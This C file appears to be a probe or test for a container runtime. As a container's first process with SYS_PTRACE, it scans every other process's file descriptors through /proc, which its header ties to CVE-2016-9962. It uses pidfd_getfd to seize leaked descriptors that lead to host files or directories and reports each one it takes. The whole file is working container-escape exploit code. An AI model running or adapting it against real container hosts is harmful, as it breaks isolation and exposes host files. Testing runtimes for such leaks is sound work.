/*
 * A container's first process, with SYS_PTRACE, that looks at all descriptors of whoever else is in its PID namespace
 * (CVE-2016-9962), and takes them over where it can. Prints a line for each new one: its number if it is a standard
 * stream, and what it is. Runs until it is killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char seen[128][160];
static int seen_count;

static void tell(const char *line) {
    for (int i = 0; i < seen_count; i++)
        if (strcmp(seen[i], line) == 0) return;
    if (seen_count < 128) strncpy(seen[seen_count++], line, sizeof(seen[0]) - 1);
    printf("%s\n", line);
    fflush(stdout);
}

static void look(int pid, const char *directory, const char *name) {
    char path[300], target[100] = "", line[160];
    int fd = atoi(name);
    /* Held, so that everything below is about one and the same. */
    snprintf(path, sizeof(path), "%s/%s", directory, name);
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) return;
    /* Before its exec it does not run a program of the image. */
    struct stat program, own, status, above, root;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int known = stat(path, &program) == 0 && stat("/bin/busybox", &own) == 0 && stat("/", &root) == 0;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    known = known && readlink(path, target, sizeof(target) - 1) > 0 && fstat(held, &status) == 0;
    /* A directory is a way to the host whatever its name, unless it is the root that we have ourselves. */
    if (known && S_ISDIR(status.st_mode)) {
        int up = openat(held, "..", O_PATH | O_CLOEXEC);
        int same = up >= 0 && fstat(up, &above) == 0 && status.st_ino == root.st_ino && status.st_dev == root.st_dev &&
                   above.st_ino == root.st_ino && above.st_dev == root.st_dev;
        if (up >= 0) close(up);
        known = !same;
        strcpy(target, "DIRECTORY");
    }
    close(held);
    if (!known) return;
    char *number = strchr(target, '[');
    if (number != NULL) *number = 0;
    const char *who = program.st_ino == own.st_ino && program.st_dev == own.st_dev ? "own" : "on its way";
    snprintf(line, sizeof(line), "%s %s %s", who, fd < 3 ? name : "N", target);
    tell(line);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    int taken = pidfd < 0 || fd < 3 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    /* The number may be another one's by now. */
    if (taken >= 0 && fstat(taken, &status) == 0 && S_ISREG(status.st_mode) && status.st_dev != own.st_dev) {
        snprintf(line, sizeof(line), "TAKEN %s", target);
        tell(line);
    }
    if (taken >= 0) close(taken);
    if (pidfd >= 0) close(pidfd);
}

int main(void) {
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
            int pid = atoi(entry->d_name);
            if (pid <= 1) continue;
            char path[64];
            snprintf(path, sizeof(path), "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            for (struct dirent *fd; fds != NULL && (fd = readdir(fds)) != NULL;)
                if (fd->d_name[0] != '.') look(pid, path, fd->d_name);
            if (fds != NULL) closedir(fds);
        }
        if (proc != NULL) closedir(proc);
    }
}
